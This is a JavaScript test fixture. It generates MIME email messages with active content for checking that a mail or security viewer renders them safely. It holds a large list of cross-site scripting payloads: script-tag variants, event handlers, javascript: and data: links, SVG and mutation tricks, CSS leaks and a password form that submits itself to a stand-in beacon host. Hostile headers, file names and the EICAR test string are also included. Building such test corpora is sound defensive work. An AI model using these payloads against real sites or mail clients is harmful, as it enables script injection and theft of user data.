// Messages with active content, each written to run a script, send a request, open a window or a dialog, or
// break out of the text in whoever shows it. Harmless: hosts that do not exist, and the EICAR test string, so
// that each raises an alert. A row is a name and what is special about the message.
import { beacon, eicar } from "./hostile_message.mjs";

const at = (path) => `http://${beacon}/${path}`;
/** What each attempt does: seen as a dialog, a request, a changed title or a window. */
const run = `alert(1);document.title='run';fetch('${at("run")}');open('${at("window")}')`;
const attribute = `alert(1)`;

/** The body of an HTML message: [name, markup]. */
const markup = [
  // script elements in every spelling
  ["script", `<script>${run}</script>`],
  ["script-upper", `<SCRIPT>${run}</SCRIPT>`],
  ["script-mixed", `<ScRiPt>${run}</sCrIpT>`],
  ["script-space-in-end", `<script>${run}</script >`],
  ["script-newline-in-tag", `<script\n>${run}</script\n>`],
  ["script-tab", `<script\t>${run}</script>`],
  ["script-formfeed", `<script\f>${run}</script>`],
  ["script-slash", `<script/x>${run}</script>`],
  ["script-attribute", `<script x=">">${run}</script>`],
  ["script-double-open", `<<script>${run}//<</script>`],
  ["script-nested", `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["script-null", `<scr\u0000ipt>${run}</scr\u0000ipt>`],
  ["script-unclosed", `<script>${run}//`],
  ["script-src", `<script src="${at("script.js")}"></script>`],
  ["script-src-protocol", `<script src=//${beacon}/s.js></script>`],
  ["script-src-no-quotes", `<script src=${at("s.js")}></script>`],
  ["script-data", `<script src="data:text/javascript,${attribute}"></script>`],
  ["script-module", `<script type=module>import '${at("module.js")}'</script>`],
  ["script-importmap", `<script type=importmap>{"imports":{"a":"${at("map.js")}"}}</script>`],
  ["script-nomodule", `<script nomodule>${run}</script>`],
  ["script-async", `<script async defer src="${at("async.js")}"></script>`],
  ["script-vbscript", `<script language=vbscript>MsgBox 1</script>`],
  ["script-in-title", `<title><script>${run}</script></title>`],
  ["script-after-title", `<title></title><script>${run}</script>`],
  ["script-breaks-textarea", `</textarea><script>${run}</script>`],
  ["script-breaks-pre", `</pre></bdi></td></table><script>${run}</script>`],
  ["script-breaks-attribute", `"><script>${run}</script>`],
  ["script-breaks-single", `'><script>${run}</script>`],
  ["script-breaks-comment", `--><script>${run}</script><!--`],
  ["script-in-comment", `<!--><script>${run}</script>-->`],
  ["script-conditional", `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
  ["script-cdata", `<![CDATA[><script>${run}</script>]]>`],
  ["script-processing", `<?xml version="1.0"?><?x <script>${run}</script>?>`],
  ["script-doctype", `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>&x;`],
  ["script-entities", `&lt;script&gt;${run}&lt;/script&gt;`],
  ["script-double-entities", `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`],
  ["script-hex-entities", `&#x3c;script&#x3e;${run}&#x3c;/script&#x3e;`],
  ["script-fullwidth", `\uff1cscript\uff1e${run}\uff1c/script\uff1e`],
  ["script-utf7", `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ["script-json-break", `</script><script>${run}</script>`],
  ["script-template-literal", "<script>`${" + attribute + "}`</script>"],
  ["script-react", `{"__html":"<script>${attribute}</script>","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${attribute}>"}}`],
  ["script-expression", `{{constructor.constructor('${attribute}')()}} \${${attribute}} <%= ${attribute} %>`],
  // handlers of events
  ["img-onerror", `<img src=x onerror=${attribute}>`],
  ["img-onerror-slash", `<img/src=x/onerror=${attribute}>`],
  ["img-onerror-newline", `<img\nsrc=x\nonerror\n=\n${attribute}>`],
  ["img-onerror-entities", `<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;1&#41;>`],
  ["img-onerror-backtick", `<img src=\`x\`onerror=${attribute}>`],
  ["img-onload", `<img src="${at("onload.gif")}" onload=${attribute}>`],
  ["img-srcset", `<img srcset="${at("srcset.gif")} 2x">`],
  ["img-lazy", `<img loading=eager src="${at("eager.gif")}">`],
  ["img-broken-tag", `<img """><script>${run}</script>">`],
  ["img-dynsrc", `<img dynsrc="javascript:${attribute}" lowsrc="javascript:${attribute}">`],
  ["body-onload", `<body onload=${attribute}>`],
  ["body-onpageshow", `<body onpageshow=${attribute} onhashchange=${attribute}>`],
  ["body-background", `<body background="${at("background.gif")}">`],
  ["body-onscroll", `<body onscroll=${attribute}><p style="height:9000px">x</p><input autofocus>`],
  ["input-onfocus", `<input autofocus onfocus=${attribute}>`],
  ["select-onfocus", `<select autofocus onfocus=${attribute}></select>`],
  ["textarea-onfocus", `<textarea autofocus onfocus=${attribute}></textarea>`],
  ["keygen-onfocus", `<keygen autofocus onfocus=${attribute}>`],
  ["button-formaction", `<form><button formaction="javascript:${attribute}" autofocus>x</button></form>`],
  ["details-ontoggle", `<details open ontoggle=${attribute}>x</details>`],
  ["dialog-open", `<dialog open onclose=${attribute}>x</dialog>`],
  ["marquee-onstart", `<marquee onstart=${attribute}>x</marquee>`],
  ["video-onerror", `<video><source onerror=${attribute}></video>`],
  ["video-poster", `<video poster="${at("poster.gif")}" src="${at("video")}" autoplay></video>`],
  ["audio-autoplay", `<audio src="${at("audio")}" autoplay onloadstart=${attribute}></audio>`],
  ["track", `<video><track default src="${at("track.vtt")}" onerror=${attribute}></video>`],
  ["animation", `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${attribute}>x</b>`],
  ["transition", `<b style="transition:color 1s" ontransitionend=${attribute}>x</b>`],
  ["mouse", `<b onmouseover=${attribute} onclick=${attribute} style="position:fixed;inset:0;z-index:9999">x</b>`],
  ["accesskey", `<a accesskey=x onclick=${attribute}>x</a>`],
  ["popover", `<button popovertarget=p onbeforetoggle=${attribute}>x</button><b id=p popover onbeforetoggle=${attribute}>x</b>`],
  ["contenteditable", `<b contenteditable autofocus onfocus=${attribute} onbeforeinput=${attribute}>x</b>`],
  ["custom-element", `<x-y onfocus=${attribute} tabindex=1 id=x autofocus></x-y>`],
  // addresses that are programs
  ["javascript-link", `<a href="javascript:${attribute}">click</a>`],
  ["javascript-upper", `<a href="JaVaScRiPt:${attribute}">click</a>`],
  ["javascript-tab", `<a href="java\tscript:${attribute}">click</a>`],
  ["javascript-newline", `<a href="java&#10;script:${attribute}">click</a>`],
  ["javascript-entity", `<a href="&#106;avascript&colon;${attribute}">click</a>`],
  ["javascript-leading", `<a href=" &#14; javascript:${attribute}">click</a>`],
  ["javascript-target", `<a target=_blank href="javascript:${attribute}">click</a>`],
  ["vbscript-link", `<a href="vbscript:msgbox(1)">click</a>`],
  ["data-html-link", `<a href="data:text/html,<script>${attribute}</script>">click</a>`],
  ["data-base64-link", `<a href="data:text/html;base64,${Buffer.from(`<script>${attribute}</script>`).toString("base64")}">click</a>`],
  ["data-svg-image", `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attribute}'/>">`],
  ["blob-link", `<a href="blob:${at("blob")}">click</a>`],
  ["view-source-link", `<a href="view-source:${at("source")}">click</a><a href="filesystem:${at("x")}">y</a>`],
  ["ping", `<a ping="${at("ping")}" href="${at("pinged")}">click</a>`],
  ["download-link", `<a download href="${at("download.exe")}">click</a>`],
  ["area", `<map name=m><area shape=default href="javascript:${attribute}"></map><img usemap=#m src=x>`],
  // foreign elements
  ["svg-onload", `<svg onload=${attribute}>`],
  ["svg-slash", `<svg/onload=${attribute}>`],
  ["svg-script", `<svg><script>${attribute}</script></svg>`],
  ["svg-script-entities", `<svg><script>&#97;lert(1)</script></svg>`],
  ["svg-script-href", `<svg><script href="${at("svg.js")}"/></svg>`],
  ["svg-animate", `<svg><animate onbegin=${attribute} attributeName=x dur=1s></svg>`],
  ["svg-animate-href", `<svg><a><animate attributeName=href values="javascript:${attribute}"/><text y=20>x</text></a></svg>`],
  ["svg-set", `<svg><set onbegin=${attribute} attributeName=x to=1></svg>`],
  ["svg-use", `<svg><use href="${at("use.svg#x")}"/></svg>`],
  ["svg-use-data", `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${attribute}</script></svg>#x"/></svg>`],
  ["svg-image", `<svg><image href="${at("image.svg")}" onload=${attribute} /></svg>`],
  ["svg-foreign-object", `<svg><foreignObject><iframe srcdoc="<script>${attribute}</script>"></iframe></foreignObject></svg>`],
  ["svg-style", `<svg><style>@import '${at("svg.css")}';</style></svg>`],
  ["svg-handler", `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${attribute}</handler></svg>`],
  ["svg-filter", `<svg><filter id=f><feImage href="${at("filter.svg")}"/></filter></svg>`],
  ["math-href", `<math href="javascript:${attribute}">click</math>`],
  ["math-maction", `<math><maction actiontype="statusline#${at("status")}" xlink:href="javascript:${attribute}">click</maction></math>`],
  // documents within the document
  ["iframe", `<iframe src="${at("frame")}"></iframe>`],
  ["iframe-javascript", `<iframe src="javascript:${attribute}"></iframe>`],
  ["iframe-srcdoc", `<iframe srcdoc="<script>parent.document.title='run';${attribute}</script>"></iframe>`],
  ["iframe-data", `<iframe src="data:text/html,<script>${attribute}</script>"></iframe>`],
  ["iframe-onload", `<iframe onload=${attribute}></iframe>`],
  ["frameset", `<frameset onload=${attribute}><frame src="${at("frame")}"></frameset>`],
  ["object", `<object data="${at("object")}" type="text/html"></object>`],
  ["object-data", `<object data="data:text/html,<script>${attribute}</script>"></object>`],
  ["object-codebase", `<object classid="clsid:x" codebase="${at("x.cab")}"><param name=src value="${at("param")}"></object>`],
  ["embed", `<embed src="${at("embed.swf")}" allowscriptaccess=always>`],
  ["embed-javascript", `<embed src="javascript:${attribute}">`],
  ["applet", `<applet code=x archive="${at("x.jar")}"></applet>`],
  ["portal", `<portal src="${at("portal")}"></portal><fencedframe src="${at("fenced")}"></fencedframe>`],
  // heads that fetch, refresh or rebase
  ["meta-refresh", `<meta http-equiv=refresh content="0;url=${at("refresh")}">`],
  ["meta-refresh-javascript", `<meta http-equiv=refresh content="0;url=javascript:${attribute}">`],
  ["meta-refresh-data", `<meta http-equiv=refresh content="0;url=data:text/html,<script>${attribute}</script>">`],
  ["meta-csp", `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${run}</script>`],
  ["meta-set-cookie", `<meta http-equiv=Set-Cookie content="watchpost_session=x"><meta name=referrer content=unsafe-url>`],
  ["base", `<base href="${at("")}"><img src="relative.gif"><script src="relative.js"></script>`],
  ["base-target", `<base target=_top href="javascript:${attribute}//"><a href="#">click</a>`],
  ["link-stylesheet", `<link rel=stylesheet href="${at("style.css")}">`],
  ["link-prefetch", `<link rel=prefetch href="${at("prefetch")}"><link rel=preload as=script href="${at("preload")}">`],
  ["link-prerender", `<link rel=prerender href="${at("prerender")}"><link rel=modulepreload href="${at("modulepreload")}">`],
  ["link-dns-prefetch", `<link rel=dns-prefetch href="//${beacon}"><link rel=preconnect href="${at("")}">`],
  ["link-icon", `<link rel=icon href="${at("icon.png")}"><link rel=manifest href="${at("manifest")}">`],
  ["link-import", `<link rel=import href="${at("import.html")}"><link rel=stylesheet href="javascript:${attribute}">`],
  ["speculation-rules", `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${at("speculation")}"]}]}</script>`],
  // style sheets
  ["css-import", `<style>@import url(${at("import.css")});</style>`],
  ["css-import-string", `<style>@import "${at("import2.css")}" screen;</style>`],
  ["css-font", `<style>@font-face{font-family:x;src:url(${at("font.woff")})}b{font-family:x}</style><b>x</b>`],
  ["css-background", `<b style="background:url('${at("inline.png")}')">x</b>`],
  ["css-image-set", `<b style="background-image:image-set('${at("set.png")}' 1x)">x</b>`],
  ["css-cursor", `<style>*{cursor:url(${at("cursor.cur")}),auto}</style>`],
  ["css-content", `<style>b::after{content:url(${at("content.png")})}</style><b>x</b>`],
  ["css-attribute-leak", `<style>input[value^=a]{background:url(${at("leak-a")})}</style><input value=abc>`],
  ["css-expression", `<b style="width:expression(${attribute})">x</b>`],
  ["css-behavior", `<b style="behavior:url(${at("x.htc")});-moz-binding:url(${at("x.xml#x")})">x</b>`],
  ["css-escape", `<style>@\\69mport '${at("escape.css")}'</style>`],
  ["css-closes-style", `<style></style><script>${run}</script></style>`],
  ["css-overlay", `<style>*{position:fixed!important;inset:0!important;z-index:2147483647!important}</style>`],
  // forms
  ["form-autosubmit", `<form id=f action="${at("form")}"><input name=password type=password></form><script>f.submit()</script>`],
  ["form-javascript", `<form action="javascript:${attribute}"><input type=submit autofocus></form>`],
  ["form-image", `<form action="${at("form")}"><input type=image src="${at("submit.png")}" onerror=${attribute}></form>`],
  ["form-clobber", `<form id=root name=document><input name=cookie><input name=getElementById id=body></form><img name=location id=window>`],
  // what becomes another document when it is read twice
  ["mutation-math", `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${attribute}&gt;">`],
  ["mutation-svg-style", `<svg></p><style><a id="</style><img src=x onerror=${attribute}>">`],
  ["mutation-noscript", `<noscript><p title="</noscript><img src=x onerror=${attribute}>">`],
  ["mutation-template", `<template><script>${run}</script><img src=x onerror=${attribute}></template>`],
  ["mutation-shadow", `<b><template shadowrootmode=open><script>${run}</script><img src="${at("shadow.gif")}"></template></b>`],
  ["mutation-select", `<select><template><style></select><img src=x onerror=${attribute}>`],
  ["mutation-plaintext", `<svg><plaintext><img src=x onerror=${attribute}>`],
  ["mutation-xmp", `<xmp><p title="</xmp><img src=x onerror=${attribute}>">`],
];

const qrOfJavascript = [
  "                             ",
  "  █▀▀▀▀▀█  ▄▀   ▀█▀ █▀▀▀▀▀█  ",
  "  █ ███ █ ▀▄ ▀▄ █ ▀ █ ███ █  ",
  "  █ ▀▀▀ █  ▀▄▄█▄ █▀ █ ▀▀▀ █  ",
  "  ▀▀▀▀▀▀▀ █ ▀▄▀▄█▄█ ▀▀▀▀▀▀▀  ",
  "  ▀▀█ ▀▀▀▀█▄ ▄██▄ ▄▀█   ▀ ▄  ",
  "  █▀▄█ █▀▄▀▄█▀██▀ ▀█▀▄▀  ▀▀  ",
  "  ▀█   ▄▀▀█▄██ █▀ ▄ █▀ ▄ ▄█  ",
  "  ▀▄█▀█▄▀█▀█▄▄ █▀▄▄▄▄██▀▀██  ",
  "  ▀ ▀▀  ▀ ▄▀▄▄█▀▀▄█▀▀▀██ ▄▄  ",
  "  █▀▀▀▀▀█ █ ▀▀█▄█▀█ ▀ █▀ ██  ",
  "  █ ███ █ ▀█▄█  ▀▄▀▀▀██▄ ▀▀  ",
  "  █ ▀▀▀ █ █▄▀▄ ▀ █▄▄ ██▀ ▄▀  ",
  "  ▀▀▀▀▀▀▀ ▀▀  ▀  ▀▀▀▀ ▀▀ ▀▀  ",
  "                             ",
].join("\n");
const qrOfMarkup = [
  "                             ",
  "  █▀▀▀▀▀█ ▀▀▀█▄▀▄ ▄ █▀▀▀▀▀█  ",
  "  █ ███ █  ▀▄█▄█▄▄▄ █ ███ █  ",
  "  █ ▀▀▀ █  ▄▀██▀▄ █ █ ▀▀▀ █  ",
  "  ▀▀▀▀▀▀▀ █▄▀▄▀▄▀▄▀ ▀▀▀▀▀▀▀  ",
  "  ▀▀ ▀█ ▀ ▄▀▄█▄ ██ ▄▀▄▄▄  ▀  ",
  "    ▄ █▄▀▄ ▀ █▄ ██▄█▄██▄▄ █  ",
  "  ▄  ▄▀█▀ ▄██▄█ ▄█▄▀▀▄▄█ ▀   ",
  "  █▀ ▀█▄▀▄▄█▀ ▄▀█▀  █ █ ▄▀█  ",
  "  ▀ ▀▀ ▀▀ ▄█▀ ▄▀ ▀█▀▀▀█▀█    ",
  "  █▀▀▀▀▀█  ▀▀▀██ ▄█ ▀ ██▀▀█  ",
  "  █ ███ █ █▀███ ▀▀▀██▀▀ ▄█▄  ",
  "  █ ▀▀▀ █ ▄▀▄█▀▀▀ ▀▀ ▀█▄███  ",
  "  ▀▀▀▀▀▀▀ ▀▀▀▀    ▀  ▀▀   ▀  ",
  "                             ",
].join("\n");

const break_ = `"'></pre></title><img src=x onerror=${attribute}><script>${run}</script>`;
const encoded = (text) => `=?utf-8?B?${Buffer.from(text).toString("base64")}?=`;

/** What is hostile about a message elsewhere than in the markup of its body: [name, its pieces]. */
const elsewhere = [
  ["file-name", { fileName: `${break_}.com` }],
  ["finding-text", { fileName: `<svg onload=${attribute}>.pdf.exe` }],
  ["subject", { subject: break_ }],
  ["addresses", { from: `${encoded(break_)} <"<img/src=x/onerror=alert(1)>"@${beacon}>`, to: `${encoded(break_)} <javascript:${attribute}@${beacon}>` }],
  ["header-values", { fields: [`X-<b>: ${break_}`, `Received: from ${break_} by <svg/onload=${attribute}>; <iframe>`, `Authentication-Results: ${break_}; spf=fail reason="${attribute}"`, `Message-ID: <${break_}>`] }],
  ["qr-codes", { plain: `${qrOfJavascript}\n\n\n${qrOfMarkup}` }],
];

function base64(text) {
  return Buffer.from(text).toString("base64").match(/.{1,76}/g).join("\r\n");
}

function part(type, disposition, text) {
  return `--b\r\nContent-Type: ${type}\r\n${disposition}Content-Transfer-Encoding: base64\r\n\r\n${base64(text)}\r\n`;
}

function message(name, { subject = "", from = `a@${beacon}`, to = "b@example.org", fields = [], plain = "text", html = "<p>text</p>", fileName = "test.com" }) {
  const headers = [`From: ${from}`, `To: ${to}`, `Subject: ${encoded(`${name} ${subject}`)}`, "MIME-Version: 1.0", 'Content-Type: multipart/mixed; boundary="b"', ...fields];
  const attachment = `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(fileName).replaceAll("'", "%27")}\r\n`;
  const parts = [
    part("text/plain; charset=utf-8", "", plain),
    part("text/html; charset=utf-8", "", html),
    // The same once more as what an officer opens, and what raises the alert.
    part("image/svg+xml", `Content-Disposition: attachment; filename="${name}.html"\r\n`, html),
    part("application/octet-stream", attachment, eicar),
  ];
  return `${headers.join("\r\n")}\r\n\r\n${parts.join("")}--b--\r\n`;
}

/** [{name, content}]: the subject begins with the name. */
export const activeMessages = [...markup.map(([name, html]) => [name, { html }]), ...elsewhere].map(([name, pieces]) => ({ name: `active-${name}`, content: message(`active-${name}`, pieces) }));
